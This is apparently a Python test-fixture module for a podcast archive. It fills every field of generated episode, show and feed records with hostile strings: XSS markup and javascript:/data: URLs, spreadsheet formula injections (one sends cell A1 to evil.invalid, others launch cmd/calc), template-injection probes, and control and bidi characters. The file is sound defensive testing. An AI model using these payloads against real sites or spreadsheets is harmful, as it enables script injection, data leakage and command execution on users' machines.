"""Episodes whose every text is hostile, each in one way: markup, addresses, formulas, control characters,
right-to-left marks, words without an end, and what templates and formats would read as their own."""

from dataclasses import replace

from archive.records import (
    Chapter,
    EpisodeRecord,
    FeedState,
    Identifier,
    Link,
    Person,
    Podcast,
    Recording,
    ShowRecord,
    Soundbite,
    Warning,
)
from tests.parts import said, source, transcript, voice

HOSTILE = {
    "markup": "\"'></title></textarea></script><script>alert(1)</script><img src=x onerror=alert(2)><!--",
    "address": "javascript:alert(1)//",
    "data": "data:text/html,<script>alert(1)</script>",
    "formula": '=HYPERLINK("https://evil.invalid/?"&A1,"open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "controls": "a\x00b\x01c\x08d\x0be\x1b[31mf\x7fg\x85h\u2028i\u2029j\ufeffk\ufffel\uffffm",
    "override": "\u202eesrever\u2066 left open \u200f\u061c",
    "hebrew": "שלום \u202dleft\u202c עולם",
    "endless": "W" * 10_000,
    "combining": "Z" + "\u0300\u0301\u0489" * 300,
    "templates": "{{ 7 * 7 }}{% raise %}{n}{0}{}%s%(n)s${7*7}<%= 7 %>",
    "json": '\\"}]}</script>\u2028\\u003cscript>',
}
"""By kind: the text that stands in every field of an episode."""


def hostile_episode(number: int, kind: str) -> EpisodeRecord:
    """An episode with the hostile text first in every field, and the field's name behind it."""
    bad = HOSTILE[kind]
    lines = (
        said(f"{bad} first words", 0, end_ms=4_000, speaker=0, chapter=0, turn=1, cue=0),
        said(f"hostile {bad}", 4_000, end_ms=6_000, speaker=1, chapter=1, turn=2, cue=1),
        said(f"hostile again {bad} {bad}", 6_000, end_ms=9_000, chapter=1, cue=2),
    )
    return EpisodeRecord(
        identifiers=(Identifier(scheme="file", value=f"/shows/{kind} {bad}"),),
        derivation=f"hostile {kind}",
        slug=f"hostile-{kind}",
        title=f"{bad} title",
        subtitle=f"{bad} subtitle",
        podcast=hostile_show(kind),
        description=f"{bad} notes <p>{bad}</p><a href='{bad}'>{bad}</a>\n\n{bad}",
        description_type="html" if number % 2 else "text",
        published=f"2024-05-{number:02}",
        published_precision="day",
        season=1,
        number=number,
        link=bad,
        image_url=bad,
        tags=(f"{bad} tag",),
        recordings=(
            Recording(kind="youtube", url=bad, title=f"{bad} recording"),
            Recording(kind="audio", url=f"{bad}.mp3", mime_type=f"{bad}/mpeg"),
        ),
        sources=(source(f"/shows/{kind}{bad}", "hostile"),),
        transcripts=(replace(transcript(lines), language="x" if kind == "endless" else bad[:40]),),
        speakers=(
            replace(
                voice(f"{bad} label", hostile_person(kind), f"{bad} role", 0, lines),
                description=f"{bad} description",
            ),
            voice(f"{bad} voice", None, None, 1, lines),
        ),
        chapters=(
            Chapter(title=f"{bad} chapter", start_ms=0, given_ms=0, href=bad, image_url=bad),
            Chapter(title=f"{bad} second", start_ms=4_000, given_ms=4_000, href=bad),
        ),
        utterances=lines,
        links=(
            Link(kind="transcript", url=bad, mime_type=bad, language=bad),
            Link(kind="chapters", url=f"https://example.org/{bad}"),
        ),
        soundbites=(Soundbite(start_ms=1_000, duration_ms=2_000, title=f"{bad} moment"),),
        warnings=(Warning(code="hostile", place=f"{bad} line", message=f"{bad} message"),),
    )


def hostile_show(kind: str) -> Podcast:
    bad = HOSTILE[kind]
    return Podcast(
        title=f"{bad} show {kind}",
        author=f"{bad} author",
        description=f"{bad} <b>{bad}</b>",
        language=bad[:60],
        link=bad,
        image_url=bad,
        copyright=f"{bad} copyright",
        license=f"{bad} licence",
        license_url=bad,
        categories=(f"{bad}/{bad}",),
        tags=(f"{bad} tag",),
    )


def hostile_person(kind: str) -> Person:
    bad = HOSTILE[kind]
    return Person(name=f"{bad} person {kind}", href=bad, image_url=bad)


def hostile_feed(kind: str) -> ShowRecord:
    """The feed of the show of that kind, with an address and a problem to match."""
    bad = HOSTILE[kind]
    return ShowRecord(
        podcast=hostile_show(kind),
        feed=FeedState(
            url=f"https://example.org/{bad}", url_sha256=kind, sha256=kind, status="gone", problem=bad
        ),
    )


def hostile_episodes() -> list[EpisodeRecord]:
    """Their ids are 1, 2, … in the order of `HOSTILE`, and so are those of their shows."""
    return [hostile_episode(number, kind) for number, kind in enumerate(HOSTILE, start=1)]
